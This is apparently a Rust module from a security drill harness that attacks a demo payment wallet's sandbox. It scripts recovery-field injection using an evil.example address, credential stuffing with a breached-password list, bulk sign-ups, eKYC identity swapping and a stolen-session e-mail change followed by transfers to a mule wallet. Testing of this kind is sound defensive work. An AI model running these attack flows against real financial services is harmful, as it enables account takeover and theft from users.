//! Attacks on accounts (THREATS D6, D7, D9, D13, D15): recovery with an injected destination
//! or knowledge alone, credential stuffing then money from a new device, bulk sign-ups from
//! one network, an identity swap behind a wallet, and a stolen session that changes the
//! contacts before moving money. The target of the account attacks is the demo's ready wallet
//! (its e-mail address and password are the "breach"); yen lost is what reached the
//! attacker's wallet, read from its balance.

use serde_json::json;

use super::attacks_money::mule_wallet;
use super::client::{self, Actor};
use super::target::MULE;
use super::{AttackReport, Tally, Target};
use crate::walkthrough::{DEMO_PASSWORD, totp_code};

/// A breached-password list's head (the commonest passwords of public breach corpora).
const BREACHED: [&str; 20] = [
    "123456",
    "password",
    "123456789",
    "12345678",
    "qwerty",
    "abc123",
    "password1",
    "111111",
    "1234567",
    "iloveyou",
    "sunshine",
    "princess",
    "admin",
    "welcome",
    "football",
    "monkey",
    "dragon",
    "letmein",
    "baseball",
    "master",
];

/// The attacker's receiving wallet (D5's mule) and its balance, to measure what reached it.
fn receiver(target: &Target) -> anyhow::Result<Option<(String, String)>> {
    Ok(mule_wallet(target)?.map(|(token, handle, _)| (token, handle)))
}

fn balance_of(target: &Target, token: &str) -> anyhow::Result<i64> {
    client::wallet_balance(&mut target.actor("192.0.2.40"), token)
}

/// D6: 7pay's recovery. A reset with an extra destination field; the sandbox outbox is then
/// read for the attacker's own address (a real attacker reads their own inbox). A completion
/// with knowledge alone: the e-mail address, a guessed code and no possession factor.
pub fn recovery(target: &Target, run: &str) -> anyhow::Result<AttackReport> {
    let mut tally = Tally::start("D6 7pay recovery");
    let mut actor = target.actor("192.0.2.66");
    let attacker_email = format!("attacker-{run}@evil.example");
    for field in ["destination", "email_to", "phone"] {
        let answer = actor.call(
            "POST",
            "/api/v1/recovery",
            Some(json!({ "email": target.ready_email, field: attacker_email })),
            None,
            None,
        )?;
        let outbox = actor.call(
            "GET",
            &format!(
                "/api/v1/sandbox/outbox?destination={}",
                crate::walkthrough::encode(&attacker_email)
            ),
            None,
            None,
            None,
        )?;
        let delivered = outbox.body.as_array().is_some_and(|list| !list.is_empty());
        tally.attempt(delivered);
        tally.note(format!(
            "injected {field}: {} {}",
            answer.status,
            answer.code()
        ));
    }
    let new_password = format!("Attacker-{run}-owns-this-now");
    for attempt in 0..3 {
        let answer = actor.call(
            "POST",
            "/api/v1/recovery/complete",
            Some(json!({
                "email": target.ready_email,
                "email_code": format!("{:08}", 12_345_678 + attempt),
                "new_password": new_password,
            })),
            None,
            None,
        )?;
        tally.attempt(answer.status == 204);
        tally.note(format!(
            "knowledge alone: {} {}",
            answer.status,
            answer.code()
        ));
    }
    let signed_in = actor.call(
        "POST",
        "/api/v1/sessions",
        Some(json!({ "email": target.ready_email, "password": new_password })),
        None,
        None,
    )?;
    tally.attempt(signed_in.status == 201);
    Ok(tally.finish("done", 0))
}

/// D7: the breached list against the ready wallet, then its real password (it leaked too) from
/// a new device, and money sent at once to the attacker without a second factor.
pub fn credential_stuffing(target: &Target, run: &str) -> anyhow::Result<AttackReport> {
    let mut tally = Tally::start("D7 credential stuffing");
    let mut actor = target.actor("192.0.2.77");
    for password in BREACHED {
        let answer = actor.call(
            "POST",
            "/api/v1/sessions",
            Some(json!({ "email": target.ready_email, "password": password })),
            None,
            None,
        )?;
        tally.attempt(answer.status == 201);
    }
    let mut device = actor.fresh();
    let signed_in = device.call(
        "POST",
        "/api/v1/sessions",
        Some(json!({ "email": target.ready_email, "password": DEMO_PASSWORD })),
        None,
        None,
    )?;
    tally.note(format!(
        "right password from a new device: {} second_factor_required={}",
        signed_in.status, signed_in.body["second_factor_required"]
    ));
    let Some((mule_token, mule_handle)) = receiver(target)? else {
        tally.note("no receiving wallet (D5's mule): money was not tried");
        return Ok(tally.finish("partial", 0));
    };
    if signed_in.status != 201 {
        tally.attempt(false);
        return Ok(tally.finish("done", 0));
    }
    let before = balance_of(target, &mule_token)?;
    let key = format!("drill-{run}-d7");
    let sent = device.call(
        "POST",
        "/api/v1/transfers",
        Some(json!({ "to_handle": mule_handle, "amount_yen": 5_000 })),
        Some(&signed_in.text("token")),
        Some(&key),
    )?;
    tally.attempt(sent.status == 201 && sent.body["status"] == "posted");
    tally.note(format!(
        "money without a second factor: {} {}",
        sent.status,
        sent.code()
    ));
    let after = balance_of(target, &mule_token)?;
    Ok(tally.finish("done", after.saturating_sub(before).max(0)))
}

/// D9: 25 sign-ups in a row from one network address. Each accepted one is a wallet the
/// attacker could use; detection is the network being throttled.
pub fn bulk_signups(target: &Target, run: &str) -> anyhow::Result<AttackReport> {
    let mut tally = Tally::start("D9 bulk sign-ups");
    if !target.proxy_trusted {
        tally.note("the target does not trust the drill as a proxy: the burst shares the honest users' address");
    }
    let mut actor = target.actor("192.0.2.99");
    let mut accepted = 0u32;
    for index in 0..25u32 {
        let answer = actor.call(
            "POST",
            "/api/v1/signup",
            Some(json!({
                "email": format!("bulk-{run}-{index}@drill.kinko.example"),
                "password": client::password_for(run),
                "phone": format!("+8180{:04}{:04}", index, u32::from_str_radix(run, 16).unwrap_or(0) % 10_000),
            })),
            None,
            None,
        )?;
        if answer.status == 202 {
            accepted += 1;
        } else {
            tally.note(format!(
                "sign-up {}: {} {}",
                index + 1,
                answer.status,
                answer.code()
            ));
        }
        tally.attempt(answer.status == 202);
    }
    tally.note(format!("{accepted} of 25 accepted"));
    Ok(tally.finish("done", 0))
}

/// D13: one identity behind a second wallet (the mule's identity again), and the mule's
/// KYC'd wallet resubmitting eKYC as a victim, then linking the victim's account.
pub fn identity_swap(target: &Target, run: &str) -> anyhow::Result<AttackReport> {
    let mut tally = Tally::start("D13 identity swap");
    let before = client::bank_balances(&target.bank)?;
    let mule_reference = target
        .customer(MULE)?
        .kyc_reference()
        .ok_or_else(|| anyhow::anyhow!("the mule has no sandbox identity"))?;
    let mut actor = target.actor("198.18.13.13");
    match client::sign_up(&mut actor, run, "d13", Some(mule_reference))? {
        Ok(_) => {
            tally.attempt(true);
            tally.note("second wallet on one identity: eKYC verified");
        }
        Err(why) => {
            tally.attempt(false);
            tally.note(format!("second wallet on one identity: {why}"));
        }
    }
    let Some((token, _, _)) = mule_wallet(target)? else {
        tally.note("no KYC'd mule (D5): the resubmission was not tried");
        return Ok(tally.finish("partial", 0));
    };
    let mut mule = target.actor("192.0.2.40");
    if let Some(victim) = target
        .victims()
        .find(|victim| victim.kyc_reference().is_some())
    {
        let reference = victim.kyc_reference().unwrap_or_default();
        let kyc = mule.call(
            "POST",
            "/api/v1/me/kyc",
            Some(json!({ "document_reference": reference })),
            Some(&token),
            None,
        )?;
        let swapped = kyc.status == 200 && kyc.body["outcome"] == "verified";
        tally.attempt(swapped);
        let me = mule.call("GET", "/api/v1/me", None, Some(&token), None)?;
        tally.note(format!(
            "eKYC as the victim: {} {} {}; the wallet's kyc_level now {}",
            kyc.status,
            kyc.code(),
            kyc.body["outcome"],
            me.body["kyc_level"]
        ));
        for account in &victim.accounts {
            let linked = mule.call(
                "POST",
                "/api/v1/bank-links/legacy",
                Some(json!({
                    "bank_code": account.bank_code, "branch": account.branch,
                    "account_type": account.kind.as_str(), "account_number": account.number,
                    "pin": account.pin,
                })),
                Some(&token),
                None,
            )?;
            tally.attempt(linked.status == 201);
            tally.note(format!(
                "victim's account by PIN: {} {}",
                linked.status,
                linked.code()
            ));
        }
    }
    let after = client::bank_balances(&target.bank)?;
    let lost = client::debited_yen(&before, &after, &target.victim_accounts());
    Ok(tally.finish("done", lost))
}

/// Signs in as the ready wallet with its password and authenticator (the stolen session).
fn stolen_session(actor: &mut Actor, target: &Target) -> anyhow::Result<Option<String>> {
    let signed_in = actor.call(
        "POST",
        "/api/v1/sessions",
        Some(json!({ "email": target.ready_email, "password": DEMO_PASSWORD })),
        None,
        None,
    )?;
    if signed_in.status != 201 {
        return Ok(None);
    }
    let token = signed_in.text("token");
    for step in [0u64, 1] {
        let passed = actor.call(
            "POST",
            "/api/v1/sessions/current/second-factor",
            Some(json!({ "totp_code": totp_code(&target.ready_totp_seed, step)? })),
            Some(&token),
            None,
        )?;
        if passed.status == 200 {
            return Ok(Some(passed.text("token")));
        }
    }
    Ok(Some(token))
}

/// D15: a session of the ready wallet (stolen with its second factor passed) changes the
/// e-mail address to the attacker's, then sends money to the attacker.
pub fn stolen_session_attack(target: &Target, run: &str) -> anyhow::Result<AttackReport> {
    let mut tally = Tally::start("D15 stolen session");
    let Some((mule_token, mule_handle)) = receiver(target)? else {
        tally.note("no receiving wallet (D5's mule)");
        return Ok(tally.finish("error", 0));
    };
    let mut actor = target.actor("192.0.2.15");
    let Some(token) = stolen_session(&mut actor, target)? else {
        tally.attempt(false);
        tally.note("the session could not be stolen (sign-in refused)");
        return Ok(tally.finish("done", 0));
    };
    let attacker_email = format!("thief-{run}@evil.example");
    let notices_before = messages_to(&mut actor, &target.ready_email)?;
    let change = actor.call(
        "POST",
        "/api/v1/me/email",
        Some(json!({ "new_value": attacker_email })),
        Some(&token),
        None,
    )?;
    tally.note(format!(
        "e-mail change: {} {}",
        change.status,
        change.code()
    ));
    if change.status == 202 {
        let code = crate::walkthrough::code_sent(actor.site(), &attacker_email, "change_email")
            .or_else(|_| {
                crate::walkthrough::code_sent(actor.site(), &attacker_email, "verify_email")
            });
        if let Ok(code) = code {
            let confirmed = actor.call(
                "POST",
                "/api/v1/me/email/confirm",
                Some(json!({ "code": code })),
                Some(&token),
                None,
            )?;
            tally.note(format!(
                "e-mail confirm: {} {}",
                confirmed.status,
                confirmed.code()
            ));
        }
    }
    // The victim must hear of the change at the address as it was before it.
    let notices_after = messages_to(&mut actor, &target.ready_email)?;
    let victim_told = notices_after > notices_before;
    tally.attempt(!victim_told);
    tally.note(format!(
        "notices to the old address: {notices_before} before, {notices_after} after"
    ));
    let before = balance_of(target, &mule_token)?;
    let key = format!("drill-{run}-d15");
    let sent = actor.call(
        "POST",
        "/api/v1/transfers",
        Some(json!({ "to_handle": mule_handle, "amount_yen": 5_000 })),
        Some(&token),
        Some(&key),
    )?;
    tally.attempt(sent.status == 201 && sent.body["status"] == "posted");
    tally.note(format!(
        "money after the change: {} {} {}",
        sent.status,
        sent.code(),
        sent.body["title"]
    ));
    tally.note("the ready wallet's money is from a young link, so the 72 h hold (THREATS 24) refuses it too: the contact-change freeze alone is not isolated");
    let after = balance_of(target, &mule_token)?;
    Ok(tally.finish("done", after.saturating_sub(before).max(0)))
}

/// How many messages the sandbox outbox holds for `destination` (the victim's own inbox).
fn messages_to(actor: &mut Actor, destination: &str) -> anyhow::Result<usize> {
    let outbox = actor.call(
        "GET",
        &format!(
            "/api/v1/sandbox/outbox?destination={}",
            crate::walkthrough::encode(destination)
        ),
        None,
        None,
        None,
    )?;
    Ok(outbox.body.as_array().map_or(0, Vec::len))
}
